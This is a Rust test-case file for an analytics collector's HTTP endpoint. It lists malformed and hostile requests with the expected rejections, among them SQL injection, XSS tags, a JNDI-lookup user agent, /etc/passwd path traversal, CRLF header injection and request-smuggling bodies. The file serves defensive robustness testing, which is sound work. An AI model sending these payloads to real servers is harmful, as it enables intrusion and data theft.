//! Bad headers, methods and paths, and bytes that are almost HTTP.

use super::case::{CANARY, Case, Expect, HEADER_CANARY, beacon, on_page};
use Expect::{At, Dropped, NotHttp, OneOf, Status, Stored};

pub fn cases() -> Vec<Case> {
    let mut cases = client_addresses();
    cases.extend(headers());
    cases.extend(lengths());
    cases.extend(methods_and_paths());
    cases.extend(pixels());
    cases.extend(almost_http());
    cases
}

/// A client that names its own address, in every way that is not allowed.
fn client_addresses() -> Vec<Case> {
    let long = ["10.0.0.1"; 400].join(", ");
    [
        "X-Forwarded-For: ",
        "X-Forwarded-For: ,,,,",
        "X-Forwarded-For: unknown",
        "X-Forwarded-For: 127.0.0.1, 127.0.0.1",
        "X-Forwarded-For: 999.999.999.999",
        "X-Forwarded-For: 1.2.3.4:99999",
        "X-Forwarded-For: [::1",
        "X-Forwarded-For: ::ffff:1.2.3.4%eth0",
        "X-Forwarded-For: zqxheader' OR 1=1 --",
        "X-Forwarded-For: <script>zqxheader</script>",
        "X-Forwarded-For: 0x7f000001",
        "X-Forwarded-For: 2130706433",
        "X-Forwarded-For: \u{661}.\u{662}.\u{663}.\u{664}",
        "Forwarded: for=zqxheader",
        "Forwarded: for=\"[2001:db8::1",
        "Forwarded: for=_hidden;for=unknown;for=1.2.3.4",
        "Forwarded: ;;;===,,,",
        "Forwarded: for=\"\\\"\\\\zqxheader\"",
        "X-Real-IP: zqxheader",
        "True-Client-IP: zqxheader",
        "CF-Connecting-IP: zqxheader",
        "Client-IP: 127.0.0.1\r\nX-Client-IP: 127.0.0.1\r\nX-Cluster-Client-IP: zqxheader",
        "X-Forwarded-Host: zqxheader.example\r\nX-Forwarded-Proto: gopher\r\nX-Original-URL: /admin",
    ]
    .into_iter()
    .map(|header| Case::headers(format!("client address {header:?}"), format!("{header}\r\n"), Stored))
    .chain([Case::headers("a chain of 400 proxies", format!("X-Forwarded-For: {long}\r\n"), Stored)])
    .collect()
}

fn headers() -> Vec<Case> {
    let many = |count: usize| (0..count).map(|n| format!("X-{n}: {HEADER_CANARY}\r\n")).collect::<String>();
    vec![
        Case::headers("HTML as type", "Content-Type: text/html\r\n", Status(415)),
        Case::headers("a form as type", "Content-Type: application/x-www-form-urlencoded\r\n", Status(415)),
        Case::headers("parts as type", "Content-Type: multipart/form-data; boundary=x\r\n", Status(415)),
        Case::headers("a type that is none", format!("Content-Type: {CANARY}\r\n"), Status(415)),
        Case::headers("JSON as type", "Content-Type: application/json\r\n", Stored),
        Case::headers("gzip as encoding", "Content-Encoding: gzip\r\n", Status(415)),
        Case::headers("an encoding that is none", format!("Content-Encoding: {CANARY}\r\n"), Status(415)),
        Case::headers("one header of 20 KiB", format!("X-Long: {}\r\n", CANARY.repeat(2_276)), Status(431)),
        Case::headers("100 headers", many(100), Status(431)),
        Case::headers("30 headers", many(30), Stored),
        Case::headers("a space in a header's name", "X Space: 1\r\n", Status(400)),
        Case::headers("a space before the colon", "X-Space : 1\r\n", Status(400)),
        Case::headers("a header without a name", ": 1\r\n", Status(400)),
        Case::headers("a header without a colon", format!("{CANARY}\r\n"), Status(400)),
        Case::headers("a NUL in a header", "X-Nul: a\0b\r\n", Status(400)),
        Case::headers("a bare CR in a header", "X-Cr: a\rSet-Cookie: b\r\n", Status(400)),
        Case::headers("a folded header", "X-Fold: a\r\n b\r\n", OneOf(&[204, 400])),
        Case::headers("no user agent but SQL", "User-Agent: zqxheader'; DROP TABLE events; --\r\n", Stored),
        Case::headers("an empty user agent", "User-Agent: \r\n", Stored),
        Case::headers(
            "a user agent of 8 KiB",
            format!("User-Agent: {}\r\n", HEADER_CANARY.repeat(900)),
            Stored,
        ),
        Case::headers("a user agent outside ASCII", "User-Agent: zqxheader caf\u{e9}\r\n", Stored),
        Case::headers(
            "a user agent with a template",
            "User-Agent: ${jndi:ldap://zqxheader.example/a}\r\n",
            Stored,
        ),
        Case::headers("a foreign origin", format!("Origin: https://{CANARY}.example\r\n"), Status(403)),
        Case::headers("no origin at all", "Origin: null\r\n", Stored),
        Case::headers("an origin that is none", format!("Origin: {CANARY}\r\n"), Status(403)),
        Case::headers("a foreign host", format!("Host: {CANARY}.example\r\n"), OneOf(&[204, 400])),
        Case::headers(
            "a foreign referrer",
            format!("Referer: https://{HEADER_CANARY}.example/?a=b\r\n"),
            Stored,
        ),
        Case::headers("cookies of 8 KiB", format!("Cookie: a={}\r\n", HEADER_CANARY.repeat(900)), Stored),
        Case::headers("cookies that are none", format!("Cookie: ;;=;{HEADER_CANARY};==;a=\"\r\n"), Stored),
        Case::headers(
            "languages that are none",
            format!("Accept-Language: {HEADER_CANARY};q=9,,;q=\r\n"),
            Stored,
        ),
        Case::headers(
            "hints that are none",
            format!("Sec-CH-UA: \"{HEADER_CANARY};v=\r\nSec-CH-UA-Mobile: ?7\r\n"),
            Stored,
        ),
        Case::headers("a visitor who refuses by GPC", "Sec-GPC: 1\r\n", Dropped),
        Case::headers("a visitor who refuses by DNT", "DNT: 1\r\n", Dropped),
        Case::headers("a visitor who refuses by cookie", "Cookie: a=b; footfall_optout=1\r\n", Dropped),
        Case::headers("an upgrade to WebSocket", "Connection: Upgrade\r\nUpgrade: websocket\r\n", Stored),
        Case::headers(
            "an upgrade to h2c",
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
            Stored,
        ),
        Case::headers("a method to put over another", "X-HTTP-Method-Override: DELETE\r\n", Stored),
    ]
}

/// A whole request. Its body is good if it is read by `framing`.
fn framed(framing: &str, body: &str) -> String {
    format!(
        "POST /b HTTP/1.1\r\nHost: stats.clinic.example\r\nContent-Type: text/plain\r\nConnection: close\r\n{framing}\r\n\r\n{body}"
    )
}

fn lengths() -> Vec<Case> {
    let good = beacon(&on_page(r#""k":"view""#));
    // The id has 13 bytes, its placeholder two.
    let length = good.len() + 11;
    let chunked = format!("{length:x}\r\n{good}\r\n0\r\n\r\n");
    let smuggled = format!("0\r\n\r\nGET /{CANARY} HTTP/1.1\r\nHost: a\r\n\r\n");
    vec![
        Case::raw("no length", framed("X-None: 1", &good), Status(411)),
        Case::raw("in chunks", framed("Transfer-Encoding: chunked", &chunked), Status(411)),
        Case::raw(
            "in chunks of bad sizes",
            framed("Transfer-Encoding: chunked", "zz\r\nx\r\n"),
            OneOf(&[400, 411]),
        ),
        Case::raw(
            "in a chunk of 2^64",
            framed("Transfer-Encoding: chunked", "fffffffffffffffff\r\nx"),
            OneOf(&[400, 411]),
        ),
        Case::raw(
            "in chunks that never end",
            framed("Transfer-Encoding: chunked", "1\r\n{\r\n"),
            OneOf(&[400, 411]),
        ),
        Case::raw(
            "a coding that is none",
            framed(&format!("Transfer-Encoding: {CANARY}"), &good),
            OneOf(&[400, 411, 501]),
        ),
        Case::raw(
            "gzip and chunks",
            framed("Transfer-Encoding: gzip, chunked", &chunked),
            OneOf(&[400, 411, 501]),
        ),
        Case::raw(
            "chunks that are not last",
            framed("Transfer-Encoding: chunked, gzip", &chunked),
            OneOf(&[400, 411, 501]),
        ),
        Case::raw(
            "a length and chunks",
            framed(&format!("Content-Length: {length}\r\nTransfer-Encoding: chunked"), &chunked),
            OneOf(&[400, 411]),
        ),
        Case::raw(
            "chunks and a length with a request behind",
            framed("Transfer-Encoding: chunked\r\nContent-Length: 5", &smuggled),
            OneOf(&[400, 411]),
        ),
        Case::raw(
            "a hidden coding",
            framed(&format!("Content-Length: {length}\r\nTransfer-Encoding : chunked"), &good),
            Status(400),
        ),
        Case::raw(
            "two lengths that differ",
            framed(&format!("Content-Length: {length}\r\nContent-Length: 3"), &good),
            Status(400),
        ),
        Case::raw("two lengths in one", framed(&format!("Content-Length: {length}, 3"), &good), Status(400)),
        Case::raw("a length below zero", framed("Content-Length: -1", &good), Status(400)),
        Case::raw("a length with a plus", framed(&format!("Content-Length: +{length}"), &good), Status(400)),
        Case::raw("a hexadecimal length", framed("Content-Length: 0x10", &good), Status(400)),
        Case::raw(
            "a length that is a word",
            framed(&format!("Content-Length: {CANARY}"), &good),
            Status(400),
        ),
        Case::raw(
            "a length of 2^64",
            framed("Content-Length: 18446744073709551616", &good),
            OneOf(&[400, 413]),
        ),
        Case::raw("a length of 1 TiB", framed("Content-Length: 1099511627776", &good), Status(413)),
        Case::raw("a length of nothing", framed("Content-Length: 0", ""), At("body")),
        Case::raw(
            "a length that cuts the beacon",
            framed(&format!("Content-Length: {}", length - 3), &good),
            OneOf(&[400]),
        ),
        Case::raw(
            "a length that is never sent",
            framed(&format!("Content-Length: {}", length + 100), &good),
            NotHttp,
        ),
    ]
}

fn methods_and_paths() -> Vec<Case> {
    let plain = |line: &str| {
        format!("{line}\r\nHost: stats.clinic.example\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
    };
    let mut cases: Vec<Case> = ["GET", "PUT", "DELETE", "PATCH", "TRACE", "post", "PROPFIND", "ZQXCANARY"]
        .iter()
        .map(|method| Case::raw(format!("{method} /b"), plain(&format!("{method} /b HTTP/1.1")), Status(405)))
        .collect();
    for path in [
        "/zqxcanary",
        "/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/b/../../etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/s.js/../../footfall.toml",
        "//b",
        "/b/",
        "/B",
        "/b%00",
        "/b;zqxcanary",
        "/s.0000000000000000.js",
        "/metrics",
        "/healthz",
        "/zqx?query=DROP%20TABLE%20events",
        "/.git/config",
        "/data/spool",
        "/%0d%0aSet-Cookie:zqxcanary=1",
        "/%ff%fe",
        "/<script>zqxcanary</script>",
    ] {
        let expect = OneOf(if path.contains('<') { &[400, 404] } else { &[404] });
        cases.push(Case::raw(format!("GET {path}"), plain(&format!("GET {path} HTTP/1.1")), expect));
    }
    cases.push(Case::raw("CONNECT", plain("CONNECT evil.example:443 HTTP/1.1"), OneOf(&[400, 404, 405])));
    cases.push(Case::raw("a path with a NUL", plain("GET /\0 HTTP/1.1"), Status(400)));
    cases.push(Case::raw(
        "a path of 60,000 bytes",
        plain(&format!("GET /{} HTTP/1.1", "a".repeat(60_000))),
        OneOf(&[414, 431]),
    ));
    cases
}

fn pixels() -> Vec<Case> {
    let pixel = |query: &str, headers: &str| {
        format!(
            "GET /b.gif{query} HTTP/1.1\r\nHost: stats.clinic.example\r\nConnection: close\r\n{headers}\r\n"
        )
    };
    let referer = "Referer: https://clinic.example/hostile\r\n";
    vec![
        Case::raw("a pixel without a site", pixel("", referer), At("s")),
        Case::raw("a pixel of an empty site", pixel("?s=", referer), At("s")),
        Case::raw("a pixel without a page", pixel("?s=clinic", ""), At("u")),
        Case::raw("a pixel of an unknown site", pixel("?s=zqxcanary", referer), Status(403)),
        Case::raw(
            "a pixel on a foreign page",
            pixel("?s=clinic", "Referer: https://zqxcanary.example/\r\n"),
            Status(403),
        ),
        Case::raw("a pixel on no page", pixel("?s=clinic&u=javascript:alert(1)", ""), OneOf(&[400])),
        Case::raw("a pixel with SQL for a site", pixel("?s=clinic'%20OR%201=1%20--", referer), Status(403)),
        Case::raw("a pixel with broken escapes", pixel("?s=%zz%&&&===&u=%ff", referer), OneOf(&[400, 403])),
        Case::raw(
            "a pixel by POST",
            format!(
                "POST /b.gif?s=clinic HTTP/1.1\r\nHost: a\r\nConnection: close\r\n{referer}Content-Length: 0\r\n\r\n"
            ),
            Status(405),
        ),
    ]
}

fn almost_http() -> Vec<Case> {
    let request = "GET /s.js HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
    vec![
        Case::raw("a line end and nothing", "\r\n\r\n\r\n", NotHttp),
        Case::raw("NULs", vec![0; 64], NotHttp),
        Case::raw("all bytes there are, twice", (0..=255).chain(0..=255).collect::<Vec<u8>>(), NotHttp),
        Case::raw(
            "a TLS greeting",
            b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03zqxcanary\r\n\r\n".to_vec(),
            NotHttp,
        ),
        Case::raw("SSH", "SSH-2.0-zqxcanary\r\n\r\n", NotHttp),
        Case::raw("SMTP", "EHLO zqxcanary\r\n\r\n", NotHttp),
        Case::raw("Redis", "*1\r\n$4\r\nPING\r\n", NotHttp),
        Case::raw("a version that is none", format!("GET /s.js HTTP/9.9\r\nHost: {CANARY}\r\n\r\n"), NotHttp),
        Case::raw("no version", "GET /s.js\r\n\r\n", NotHttp),
        Case::raw("only a method", "POST\r\n\r\n", NotHttp),
        Case::raw("half a request", "POST /b HTTP/1.1\r\nHost: a\r\nContent-Le", NotHttp),
        Case::raw("half of HTTP/2's greeting", "PRI * HTTP/2.0\r\n\r\nSM", NotHttp),
        Case::raw(
            "HTTP/2 and garbage",
            format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{}", CANARY.repeat(100)),
            NotHttp,
        ),
        Case::raw(
            "a PROXY header of text from a stranger",
            format!("PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n{request}"),
            NotHttp,
        ),
        Case::raw(
            "a PROXY header in binary from a stranger",
            [
                b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\x01\x02\x03\x04\x05\x06\x07\x08\0\x01\0\x02",
                request.as_bytes(),
            ]
            .concat(),
            NotHttp,
        ),
        Case::raw(
            "a request line of 60,000 spaces",
            format!("GET{}/ HTTP/1.1\r\n\r\n", " ".repeat(60_000)),
            OneOf(&[400, 414, 431]),
        ),
    ]
}
